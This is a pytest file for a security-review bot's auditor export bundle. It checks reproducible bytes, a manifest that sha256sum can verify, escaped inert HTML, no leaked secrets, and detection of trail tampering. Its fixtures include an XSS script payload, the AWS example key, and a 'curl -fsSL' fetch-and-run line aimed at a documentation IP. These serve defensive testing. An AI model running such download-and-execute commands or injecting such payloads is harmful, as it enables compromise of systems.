"""The auditor's bundle: the same bytes for the same facts, checked by other people's tools, and nothing alive or secret in it."""

from __future__ import annotations

import hashlib
import io
import itertools
import json
import shutil
import subprocess
import zipfile
from datetime import timedelta
from html.parser import HTMLParser

import pytest

import commands
from bot.core.ask import Ask
from bot.core.bundle import MANIFEST, bundle, page
from bot.core.desk import Desk
from bot.core.model import Refused
from bot.core.policy import Policy
from bot.core.registry import discover
from bot.core.review.facts import Move
from bot.core.review.table import Verb
from bot.core.roles import Role, User
from bot.roof import cli
from bot.store.ledger import Store
from commands.export import bundled
from queries.archive import ArchiveEvidence
from queries.rulebook import load
from tests.conftest import NOW
from tests.reviews.world import ANA, KNOWN, PRACTICE, RHEA, flag

HOSTILE = "</pre><script>alert(1)</script> AKIAIOSFODNN7EXAMPLE \u202e"


@pytest.fixture(name="store")
def _store():
    store = Store("sqlite://", timedelta(days=7), lambda: NOW)
    yield store
    store.close()


@pytest.fixture(name="made")
def _made(night_archive, the_night, store):
    """A signed review of a session that has a log, exported; called again it is exported again."""
    told = next(t for t in the_night.told if "749qsg4r3l79dygtkns0dnjvcc" in t.id)
    review = store.open_review(flag(session=told.id), "#sec-flags", "flag/1", KNOWN, PRACTICE, NOW)
    answered = store.act(Move(review.id, Verb.MINE, ANA, NOW, 0, HOSTILE, "CHG-1"), PRACTICE).review
    store.act(Move(review.id, Verb.APPROVE, RHEA, NOW, answered.turn), PRACTICE)
    policy = Policy(rules=load())

    def export():
        ask = Ask(User("U0RHEA"), f"export {review.id}", NOW, Role.REVIEWER, policy)
        return bundled(ask, ArchiveEvidence(night_archive, now=NOW), store)

    return export


def parts(file):
    with zipfile.ZipFile(io.BytesIO(file.body)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_same_facts_give_the_same_bytes(made):
    assert hashlib.sha256(made().body).hexdigest() == hashlib.sha256(made().body).hexdigest()


def test_it_holds_what_an_auditor_asks_for(made):
    """Dossier, transcript, findings, the review with its two people, the chain's rows, the questions word for word."""
    found = parts(made())
    assert {
        "README.txt", "dossier.json", "dossier.html", "transcript.txt", "findings.json", "review.json", "trail.json", "questions.json", MANIFEST,
    } == set(found)  # fmt: skip
    review = json.loads(found["review.json"])
    assert ["ask", "mine", "approve"] == [step["did"] for step in review["steps"]]
    assert ("approved", ANA.id, RHEA.id) == (review["state"], review["answered_by"], review["steps"][-1]["who"])
    assert b"curl -fsSL http://198.51.100.50/k.sh" in found["transcript.txt"]
    assert any("A download is run at once" == finding["title"] for finding in json.loads(found["findings.json"]))
    assert all(
        question["query"] for question in json.loads(found["questions.json"]) if question["backend"] == "archive" and question["rows"]
    )
    rows = json.loads(found["trail.json"])
    assert ["review open", "review ask", "review mine", "review approve"] == [row["what"] for row in rows]
    assert all(later["prev"] == earlier["hash"] for earlier, later in itertools.pairwise(rows))
    for row in rows:
        plain = json.dumps({k: v for k, v in row.items() if k != "hash"}, sort_keys=True, separators=(",", ":"))
        assert row["hash"] == hashlib.sha256(plain.encode()).hexdigest()


def test_other_peoples_tools_check_the_manifest(made, tmp_path):
    if not shutil.which("sha256sum"):
        pytest.skip("no sha256sum on the path")
    with zipfile.ZipFile(io.BytesIO(made().body)) as archive:
        archive.extractall(tmp_path)
    subprocess.run(["sha256sum", "-c", "--strict", MANIFEST], cwd=tmp_path, check=True, capture_output=True)
    (tmp_path / "transcript.txt").write_text("nothing happened")
    assert 1 == subprocess.run(["sha256sum", "-c", MANIFEST], cwd=tmp_path, check=False, capture_output=True).returncode


class Alive(HTMLParser):
    """What a browser would run, load or lead to."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        alive = tag in ("script", "img", "iframe", "link", "a", "form", "object")
        self.found += [tag] if alive or any(name.startswith("on") or name in ("src", "href") for name, _ in attrs) else []


def test_nothing_in_the_page_is_alive_and_nothing_is_secret(made):
    found = parts(made())
    alive = Alive()
    alive.feed(found["dossier.html"].decode())
    assert [] == alive.found
    assert "&lt;script&gt;alert(1)" in found["dossier.html"].decode()
    assert [] == [name for name, body in found.items() if b"AKIAIOSFODNN7EXAMPLE" in body]
    assert [] == [name for name, body in found.items() if "\u202e".encode() in body and name.endswith("html")]


def test_a_session_without_a_review_and_one_that_is_not(night_archive, the_night, store):
    told = next(t for t in the_night.told if "749qsg4r3l79dygtkns0dnjvcc" in t.id)
    ask = Ask(User("U0RHEA"), f"export {told.id}", NOW, Role.REVIEWER, Policy())
    assert b"{}\n" == parts(bundled(ask, ArchiveEvidence(night_archive, now=NOW), store))["review.json"]
    strange = Ask(User("U0RHEA"), "export r9999999", NOW, Role.REVIEWER, Policy())
    with pytest.raises(Refused, match="no session and no review"):
        bundled(strange, ArchiveEvidence(night_archive, now=NOW), store)


def test_it_is_for_reviewers(night_archive, store):
    ask = Ask(User("U0BEN"), "export r2k7m4xq", NOW, Role.RESPONDER, Policy())
    with pytest.raises(Refused, match="is for a reviewer"):
        Desk(discover(commands)).answer(ask, lambda explain: ArchiveEvidence(night_archive, explain=explain, now=NOW), store)


def test_a_page_escapes_whatever_it_is_given():
    assert b"<b>" not in page("<b>", [("<b>", {"<b>": ["<b>", {"<b>": "<b>"}]}), ("<b>", "<b>")])


def test_an_empty_bundle_has_its_manifest():
    with zipfile.ZipFile(io.BytesIO(bundle({}))) as archive:
        assert [MANIFEST] == archive.namelist()


def test_the_trails_verb(tmp_path, capsys):
    """It holds, it shows a head, and a changed row is named with exit code 1."""
    url = f"sqlite:///{tmp_path}/bot.db"
    store = Store(url)
    review = store.open_review(flag(), "#sec-flags", "flag/1", KNOWN, PRACTICE, NOW)
    store.act(Move(review.id, Verb.MINE, ANA, NOW, 0, "deploy"), PRACTICE)
    store.close()
    world = {"COUNTERSIGN_STORE": url}
    assert (0, "The trail holds: 3 rows") == (cli.main(["trail", "verify"], world), capsys.readouterr().out[:23])
    assert 0 == cli.main(["trail", "head"], world)
    head = capsys.readouterr().out.strip()
    assert 0 == cli.main(["trail", "verify", "--head", head], world)
    assert 2 == cli.main(["trail", "verify", "--head", "9"], world)
    import sqlite3

    with sqlite3.connect(tmp_path / "bot.db") as raw:
        raw.executescript("DROP TRIGGER trail_kept; UPDATE trail SET who = 'U0MALLORY1' WHERE number = 2;")
    raw.close()
    capsys.readouterr()
    assert 1 == cli.main(["trail", "verify"], world)
    assert "broken at row 2: the row is not what was written" in capsys.readouterr().out
